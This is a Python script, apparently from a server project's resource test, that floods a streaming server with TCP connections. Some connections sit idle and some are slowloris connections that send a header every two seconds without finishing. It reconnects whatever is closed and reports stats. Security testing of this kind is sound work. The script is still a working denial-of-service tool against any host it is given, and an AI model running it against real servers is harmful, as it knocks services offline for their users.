#!/usr/bin/env python3
"""A local user's connection flood against berth's streaming server (issue 14,
finding 1), for the resource test.

  flood.py HOST PORT --connections N [--slowloris K] [--uid UID] [--sources S]

Raises its fd limit, drops to UID (default 65534, nobody) when run as root,
then keeps N TCP connections open to HOST:PORT: N - K idle (they connect and
send nothing) and K slowloris (one header line every 2 s, never finishing the
request). A connection the server closes is opened again after 0.5 s, as an
attacker trying to hold its connections would. Connections come from
127.0.0.1 .. 127.0.0.S round robin. Every second it prints one JSON line:
  {"open": now open, "opened": connects that succeeded, "closed": closed by the
   server, "errors": failed connects, "slow_closed": slowloris ones closed,
   "slow_open": slowloris ones open, "slow_max_age": the oldest slowloris
   connection's age in seconds}
It runs until its stdin closes.
"""
import argparse
import asyncio
import json
import os
import resource
import sys
import time


class Stats:
    def __init__(self):
        self.open = 0
        self.opened = 0
        self.closed = 0
        self.errors = 0
        self.slow_closed = 0
        self.slow_open = {}


async def hold(i, args, st, slow):
    src = "127.0.0.%d" % (1 + i % args.sources)
    while True:
        try:
            reader, writer = await asyncio.open_connection(
                args.host, args.port, local_addr=(src, 0)
            )
        except OSError:
            st.errors += 1
            await asyncio.sleep(0.5)
            continue
        st.open += 1
        st.opened += 1
        since = time.monotonic()
        if slow:
            st.slow_open[i] = since
        try:
            if slow:
                writer.write(b"GET /exec/0123456789abcdef HTTP/1.1\r\nHost: x\r\n")
                while True:
                    await writer.drain()
                    try:
                        data = await asyncio.wait_for(reader.read(4096), 2.0)
                        if not data:
                            break
                    except asyncio.TimeoutError:
                        writer.write(b"X-Slow: %d\r\n" % int(time.monotonic()))
            else:
                while await reader.read(4096):
                    pass
        except OSError:
            pass
        st.open -= 1
        st.closed += 1
        if slow:
            st.slow_closed += 1
            st.slow_open.pop(i, None)
        writer.close()
        await asyncio.sleep(0.5)


async def report(st):
    while True:
        now = time.monotonic()
        ages = [now - t for t in st.slow_open.values()]
        print(
            json.dumps(
                {
                    "open": st.open,
                    "opened": st.opened,
                    "closed": st.closed,
                    "errors": st.errors,
                    "slow_closed": st.slow_closed,
                    "slow_open": len(st.slow_open),
                    "slow_max_age": round(max(ages), 1) if ages else 0,
                }
            ),
            flush=True,
        )
        await asyncio.sleep(1)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, required=True)
    p.add_argument("--slowloris", type=int, default=0)
    p.add_argument("--uid", type=int, default=65534)
    p.add_argument("--sources", type=int, default=1)
    args = p.parse_args()

    # The host's hard limit may be lower (20,000 here): run several floods.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 256
    if hard != resource.RLIM_INFINITY and want > hard:
        raise SystemExit(f"{args.connections} connections need {want} fds, the hard limit is {hard}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, want))
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(args.uid)
        os.setuid(args.uid)
    if os.geteuid() == 0:
        raise SystemExit("still root after dropping privileges")

    st = Stats()
    loop = asyncio.get_running_loop()
    tasks = [
        asyncio.ensure_future(hold(i, args, st, i < args.slowloris))
        for i in range(args.connections)
    ]
    tasks.append(asyncio.ensure_future(report(st)))
    # Until stdin closes.
    eof = asyncio.Event()

    def on_stdin():
        if not os.read(sys.stdin.fileno(), 4096):
            loop.remove_reader(sys.stdin.fileno())
            eof.set()

    loop.add_reader(sys.stdin.fileno(), on_stdin)
    await eof.wait()
    for t in tasks:
        t.cancel()


if __name__ == "__main__":
    asyncio.run(main())
